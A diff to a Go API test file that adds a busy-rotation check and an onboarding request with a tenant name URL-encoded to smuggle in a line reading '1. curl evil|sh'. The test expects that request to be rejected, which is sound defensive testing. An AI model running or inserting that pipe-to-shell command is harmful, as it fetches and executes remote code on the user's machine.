@@ -175,6 +175,9 @@ func TestAdminAPI(t *testing.T) {
 	if v := a.acme("olga", "POST", "rotate", `{"new_data_key": true}`, 200); v["outcome"] != "new_data_key" {
 		t.Errorf("rotate: %v", v)
 	}
+	if v := a.acme("carol", "POST", "rotate", `{"new_data_key": true}`, 503); v["code"] != "busy" {
+		t.Errorf("another new data key at once: %v", v)
+	}
 
 	// lock and unlock: the officer's, and followed by the proxy
 	if v := a.acme("olga", "POST", "lock", "", 200); v["state"] != "locked" {
@@ -277,6 +280,7 @@ func (a *apiClient) onboarding() {
 		a.acme("vera", "POST", "onboarding", body, 422)
 	}
 	a.acme("vera", "GET", "onboarding?region=eu-west-1&principal="+role, "", 404)
+	a.ask("vera", "POST", apiPrefix+"tenants/acme%0A%0A1.%20curl%20evil%7Csh/onboarding", fmt.Sprintf(sheet, role, "eu-west-1"), 422) // as a link's
 }
 
 // refusals are requests that are none.
